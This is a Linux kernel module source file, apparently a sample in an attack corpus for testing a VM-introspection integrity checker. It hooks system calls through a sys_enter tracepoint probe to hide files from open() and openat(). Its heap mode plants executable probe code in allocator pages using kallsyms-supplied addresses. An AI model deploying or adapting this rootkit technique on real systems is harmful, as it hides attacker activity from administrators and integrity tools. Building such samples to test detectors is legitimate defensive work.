// SPDX-License-Identifier: GPL-2.0
/*
 * vmiaas_attack_tracepoint: a system call hook through a tracepoint probe,
 * for the integrity tests. It finds the sys_enter tracepoint
 * (for_each_kernel_tracepoint()) and registers a probe on it
 * (tracepoint_probe_register()), as syscall-hooking rootkits that avoid
 * the system call table do. The kernel calls the probe at the entry of
 * every system call with the user registers, and takes the system call
 * number back from them afterwards (syscall_trace_enter(): "Probes ... may
 * have changed the system call number"). The probe hides files: an
 * open() or openat() whose path contains @hide ("vmiaas_tp_hidden") gets
 * its number rewritten to -1 (no system call runs) and its result set to
 * -ENOENT, so the file cannot be opened although getdents still lists it;
 * each one is counted in @hits. Nothing in kernel text, read-only data or
 * the system call table changes: the only trace is the probe in
 * __tracepoint_sys_enter's funcs (heap), and sys_enter's static call
 * pointing at the probe (explained by the probe). Unloading unregisters.
 *
 * mode=module (default): the probe above, in this module's text.
 * mode=heap:             the probe is a copy of a few instructions in a
 *                        page from the page allocator (its direct-map
 *                        address), made read-only and executable with
 *                        set_memory_ro() and set_memory_x() (not exported:
 *                        setro=0x... setx=0x... from /proc/kallsyms); it
 *                        counts every system call in @hits and changes
 *                        nothing. It is registered twice (data NULL and
 *                        1): a tracepoint's sole probe is called through
 *                        its static call, a rel32 call that cannot reach
 *                        the direct map from kernel text (the kernel
 *                        would jump 2 GiB off and die); with two, the
 *                        static call runs __traceiter_sys_enter, which
 *                        calls each probe through its pointer. The page
 *                        stays after unloading (printed: "probe code at
 *                        0x...").
 */
#define pr_fmt(fmt) KBUILD_MODNAME ": " fmt

#include <linux/err.h>
#include <linux/gfp.h>
#include <linux/init.h>
#include <linux/kernel.h>
#include <linux/module.h>
#include <linux/moduleparam.h>
#include <linux/ptrace.h>
#include <linux/string.h>
#include <linux/tracepoint.h>
#include <linux/uaccess.h>
#include <asm/unistd.h>

#include "vmiaas_attack_execpage.h"

static char *hide = "vmiaas_tp_hidden";
module_param(hide, charp, 0444);
MODULE_PARM_DESC(hide, "paths containing this cannot be opened");

static unsigned int hits;
module_param(hits, uint, 0444);
MODULE_PARM_DESC(hits, "opens refused (mode=heap: every system call)");

static char *mode = "module";
module_param(mode, charp, 0444);
MODULE_PARM_DESC(mode, "module (default) or heap");

static unsigned long setro, setx;
module_param(setro, ulong, 0444);
MODULE_PARM_DESC(setro, "heap: address of set_memory_ro (from /proc/kallsyms)");
module_param(setx, ulong, 0444);
MODULE_PARM_DESC(setx, "heap: address of set_memory_x (from /proc/kallsyms)");

#define PATH_READ	128

static struct tracepoint *vmiaas_attack_tracepoint_tp;
static void *vmiaas_attack_tracepoint_fn;
static int vmiaas_attack_tracepoint_nr;	/* registered: data 0, 1... */

/* Whether the user string at @upath contains @hide (faults: no). */
static bool vmiaas_attack_tracepoint_hidden(const char __user *upath)
{
	char path[PATH_READ];
	size_t i;

	for (i = 0; i < sizeof(path) - 1; i++) {
		if (copy_from_user_nofault(&path[i], upath + i, 1))
			return false;
		if (!path[i])
			break;
	}
	path[i] = '\0';
	return strstr(path, hide);
}

/* sys_enter's probe: preemption is off, so nothing here may sleep. */
static void vmiaas_attack_tracepoint_probe(void *data, struct pt_regs *regs,
					   long id)
{
	const char __user *upath;

	if (id == __NR_openat)
		upath = (const char __user *)regs->si;
	else if (id == __NR_open)
		upath = (const char __user *)regs->di;
	else
		return;
	if (!vmiaas_attack_tracepoint_hidden(upath))
		return;
	regs->orig_ax = -1;		/* the system call does not run */
	regs->ax = -ENOENT;		/* and this is what it returns */
	WRITE_ONCE(hits, READ_ONCE(hits) + 1);
}

/* endbr64; movabs $hits, %rax; lock incl (%rax); ret */
static const u8 heap_code[] = {
	0xf3, 0x0f, 0x1e, 0xfa,
	0x48, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0,
	0xf0, 0xff, 0x00,
	0xc3,
};

#define HEAP_HITS	6

/* The counting probe copied to an executable page of its own. */
static void *vmiaas_attack_tracepoint_heap(void)
{
	unsigned long hits_at = (unsigned long)&hits;
	u8 code[sizeof(heap_code)];

	memcpy(code, heap_code, sizeof(code));
	memcpy(code + HEAP_HITS, &hits_at, 8);
	return vmiaas_attack_execpage(code, sizeof(code), setro, setx);
}

static void vmiaas_attack_tracepoint_find(struct tracepoint *tp, void *priv)
{
	if (!strcmp(tp->name, "sys_enter"))
		vmiaas_attack_tracepoint_tp = tp;
}

static void vmiaas_attack_tracepoint_unregister(void)
{
	long i;

	for (i = 0; i < vmiaas_attack_tracepoint_nr; i++)
		tracepoint_probe_unregister(vmiaas_attack_tracepoint_tp,
					    vmiaas_attack_tracepoint_fn,
					    (void *)i);
	tracepoint_synchronize_unregister();
}

static int __init vmiaas_attack_tracepoint_init(void)
{
	void *fn = vmiaas_attack_tracepoint_probe;
	long i;
	int err;

	if (!strcmp(mode, "heap")) {
		fn = vmiaas_attack_tracepoint_heap();
		if (IS_ERR(fn))
			return PTR_ERR(fn);
		pr_info("probe code at 0x%lx\n", (unsigned long)fn);
	} else if (strcmp(mode, "module")) {
		return -EINVAL;
	}
	for_each_kernel_tracepoint(vmiaas_attack_tracepoint_find, NULL);
	if (!vmiaas_attack_tracepoint_tp)
		return -ENOENT;
	vmiaas_attack_tracepoint_fn = fn;
	for (i = 0; i < (fn == (void *)vmiaas_attack_tracepoint_probe ? 1 : 2); i++) {
		err = tracepoint_probe_register(vmiaas_attack_tracepoint_tp, fn,
						(void *)i);
		if (err) {
			vmiaas_attack_tracepoint_unregister();
			return err;
		}
		vmiaas_attack_tracepoint_nr++;
	}
	pr_info("sys_enter probe registered (%s)\n", mode);
	return 0;
}

/* After unregistering, no CPU may still run the probe: then unload. */
static void __exit vmiaas_attack_tracepoint_exit(void)
{
	vmiaas_attack_tracepoint_unregister();
	pr_info("sys_enter probe removed after %u hits\n", hits);
}

module_init(vmiaas_attack_tracepoint_init);
module_exit(vmiaas_attack_tracepoint_exit);

MODULE_DESCRIPTION("vmiaas attack corpus: file hiding through a sys_enter tracepoint probe");
MODULE_AUTHOR("vmiaas developers");
MODULE_LICENSE("GPL");
